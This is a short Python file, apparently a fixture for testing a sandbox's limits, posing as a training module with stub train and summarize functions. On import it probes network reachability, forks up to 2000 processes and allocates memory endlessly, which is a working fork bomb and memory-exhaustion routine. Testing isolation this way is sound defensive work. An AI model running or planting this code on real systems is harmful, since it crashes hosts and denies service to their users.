"""Hostile: tries the network, starts many processes, then eats memory until it is stopped."""
import os
import socket

for address in (("1.1.1.1", 53), ("127.0.0.1", 22)):
    try:
        socket.create_connection(address, timeout=2).close()
        print("network: reached", address)
    except OSError as error:
        print("network: blocked", address, error)
children = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            import time

            time.sleep(600)
            os._exit(0)
        children += 1
    except OSError:
        break
print("processes started:", children)
hog = []
while True:
    hog.append(bytearray(256 * 2**20))
    for i in range(0, len(hog[-1]), 4096):
        hog[-1][i] = 1


def train(model, train_ds, val_ds, callbacks, epochs=30):
    raise NotImplementedError


def summarize(history):
    raise NotImplementedError
